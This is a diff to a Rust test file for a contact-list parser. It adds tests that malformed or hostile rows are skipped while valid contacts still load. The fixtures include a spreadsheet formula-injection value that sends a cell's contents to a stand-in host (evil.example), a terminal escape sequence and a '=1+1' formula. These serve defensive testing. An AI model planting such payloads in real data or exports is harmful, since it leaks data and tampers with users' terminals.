@@ -105,8 +105,6 @@ async fn block(answer: Canned) -> Result<BlockOutcome, ApiError> {
 async fn wrong_types_and_missing_fields_are_malformed() {
     for body in [
         r#"{"success": true, "contacts": "nope"}"#,
-        r#"{"success": true, "contacts": [{"full_name": "no jid"}]}"#,
-        r#"{"success": true, "contacts": [{"jid": 42}]}"#,
         r#"[1, 2, 3]"#,
         r#"not json at all"#,
     ] {
@@ -120,6 +118,41 @@ async fn wrong_types_and_missing_fields_are_malformed() {
         let e = block(json(200, body)).await.unwrap_err();
         assert!(matches!(e, ApiError::Malformed { .. }), "{body}: {e:?}");
     }
+}
+
+#[tokio::test]
+async fn rows_that_are_not_contacts_are_skipped_and_the_rest_loads() {
+    let body = r#"{"success": true, "contacts": [
+        {"full_name": "no jid"},
+        {"jid": 42},
+        7, "text", [1], null,
+        {"jid": "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid"},
+        {"jid": "\u001b[2J@s.whatsapp.net"},
+        {"jid": "5511999990001@s.whatsapp.net", "full_name": 12, "lid": "=1+1@lid"},
+        {"jid": "5511999990002@s.whatsapp.net", "first_name": "Ana", "lid": "42@lid"}
+    ]}"#;
+    assert_eq!(contacts(json(200, body)).await.unwrap(), 2);
+    let store = ryze_contacts::contacts::ContactStore::parse(body.as_bytes()).unwrap();
+    assert_eq!((store.len(), store.skipped()), (2, 8));
+    let first = store.get(0).unwrap();
+    assert_eq!(
+        (first.name(), first.lid()),
+        ("", None),
+        "bad fields dropped, row kept"
+    );
+    assert_eq!(store.get(1).unwrap().lid(), Some("42@lid"));
+}
+
+#[tokio::test]
+async fn one_name_that_is_not_utf8_does_not_lose_the_list() {
+    let mut body =
+        br#"{"success": true, "contacts": [{"jid": "1@s.whatsapp.net", "full_name": "Jo"#.to_vec();
+    body.extend_from_slice(&[0xC3, 0x28, 0xFF]);
+    body.extend_from_slice(br#"o"}, {"jid": "2@s.whatsapp.net", "full_name": "Ana"}]}"#);
+    let store = ryze_contacts::contacts::ContactStore::parse(&body).unwrap();
+    assert_eq!(store.len(), 2);
+    assert_eq!(store.get(0).unwrap().name(), "Jo\u{FFFD}(\u{FFFD}o");
+    assert_eq!(store.get(1).unwrap().name(), "Ana");
 }
 
 #[tokio::test]
